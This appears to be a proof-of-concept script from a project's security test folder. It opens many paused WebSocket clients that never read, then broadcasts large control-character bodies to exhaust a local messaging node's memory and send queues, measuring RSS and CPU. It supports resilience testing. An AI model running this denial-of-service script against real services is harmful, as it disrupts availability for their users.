// PoC: slow WebSocket consumers. Opens N stream clients that never read after the 101
// (raw sockets, paused), then has a holder of agent credentials (any local user: registration is open on
// loopback) send broadcast messages with large bodies, which the node announces to every client.
// Reports the node's RSS and CPU seconds. Defaults: all anonymous-slot clients (192) via agent credentials.
// usage: node test/attack-scripts/ws-slow-consumers.mjs <port> <pid> [clients=192] [messages=40] [bodyKiB=255] [token]
// token: bearer on the upgrades (omit: agent credentials, which take anonymous slots)
import net from 'node:net'
import crypto from 'node:crypto'
import fs from 'node:fs'
const [port, pid, nClients = '192', nMsgs = '40', bodyKiB = '255', upgradeBearer] = process.argv.slice(2)
const base = `http://127.0.0.1:${port}`
const rss = () => Number(/VmRSS:\s+(\d+)/.exec(fs.readFileSync(`/proc/${pid}/status`, 'utf8'))[1]) / 1024
const hwm = () => Number(/VmHWM:\s+(\d+)/.exec(fs.readFileSync(`/proc/${pid}/status`, 'utf8'))[1]) / 1024
const cpu = () => {
  const f = fs.readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1].split(' ')
  return (Number(f[11]) + Number(f[12])) / 100
}
const sleep = (ms) => new Promise((r) => setTimeout(r, ms))
async function post(path, body, bearer) {
  const headers = { 'content-type': 'application/json' }
  if (bearer) headers.authorization = `Bearer ${bearer}`
  const r = await fetch(base + path, { method: 'POST', headers, body: JSON.stringify(body) })
  return { status: r.status, body: await r.json().catch(() => null) }
}
const stats = { opened: 0, refused: {}, closed: 0 }
function openClient(bearer) {
  return new Promise((resolve) => {
    const s = net.connect(Number(port), '127.0.0.1')
    s.on('error', () => undefined)
    s.on('close', () => {
      if (s.opened) stats.closed++
    })
    s.write(
      `GET / HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n` +
        (bearer ? `Authorization: Bearer ${bearer}\r\n` : '') +
        `Sec-WebSocket-Key: ${crypto.randomBytes(16).toString('base64')}\r\nSec-WebSocket-Version: 13\r\n\r\n`,
    )
    s.once('data', (d) => {
      const status = d.toString().split('\r\n')[0]
      if (status.startsWith('HTTP/1.1 101')) {
        s.opened = true
        stats.opened++
        s.pause()
        resolve(s)
      } else {
        stats.refused[status] = (stats.refused[status] ?? 0) + 1
        s.destroy()
        resolve(undefined)
      }
    })
  })
}
const log = (what) =>
  console.log(
    `${what}: RSS ${rss().toFixed(0)} MB (peak ${hwm().toFixed(0)}), cpu ${cpu().toFixed(1)} s, clients open ${stats.opened - stats.closed}`,
  )
log('start')
// credentials: each has its own rate-limit bucket (60/min); registrations spend the loopback bucket
const creds = []
for (let i = 0; i < 5; i++) {
  const r = await post('/agents/register', { name: `h3-${crypto.randomBytes(3).toString('hex')}` })
  if (r.status !== 201) {
    console.log('register', r.status, r.body)
    break
  }
  creds.push({ did: r.body.identity.did, cred: r.body.identity.credential })
}
console.log('credentials', creds.length)
const sockets = []
for (let i = 0; i < Number(nClients); i++) {
  const bearer = upgradeBearer ?? creds[Math.floor(i / 55) % creds.length].cred
  const s = await openClient(bearer)
  if (s) sockets.push(s)
}
console.log('opened', stats.opened, 'refused', stats.refused)
log('clients connected')
const { execSync } = await import('node:child_process')
const kq = () =>
  execSync(`ss -tmnH state established '( sport = :${port} )'`)
    .toString()
    .split('\n')
    .reduce((n, l) => n + Number(l.trim().split(/\s+/)[1] ?? 0), 0)
const klog = () => console.log(`   kernel send queues of the node's stream sockets: ${(kq() / 1048576).toFixed(0)} MB`)
klog()
// control characters: each is written \u00XX in JSON, 6 bytes per character of body
const body = (process.env.BODY_CHAR ?? '\u0001').repeat(Number(bodyKiB) * 1024)
let sent = 0,
  sendRefused = {}
for (let i = 0; i < Number(nMsgs); i++) {
  const c = creds[i % creds.length]
  const r = await post('/messages/send', { fromDid: c.did, toDid: null, message: body }, c.cred)
  if (r.status === 200 || r.status === 201) sent++
  else {
    sendRefused[r.status] = (sendRefused[r.status] ?? 0) + 1
    if (sendRefused[r.status] === 1) console.log('send refused', r.status, JSON.stringify(r.body).slice(0, 200))
  }
  if (i % 5 === 4) {
    log(`after ${i + 1} sends`)
    klog()
  }
}
console.log('sent', sent, 'refused', sendRefused)
await sleep(3000)
log('3 s after the last send')
for (const s of sockets) s.destroy()
await sleep(3000)
log('clients gone')
const m = await (
  await fetch(base + '/metrics', upgradeBearer ? { headers: { authorization: `Bearer ${upgradeBearer}` } } : {})
)
  .text()
  .catch(() => '')
console.log(
  m
    .split('\n')
    .filter((l) => l.startsWith('meshsig_websocket'))
    .join('\n'),
)
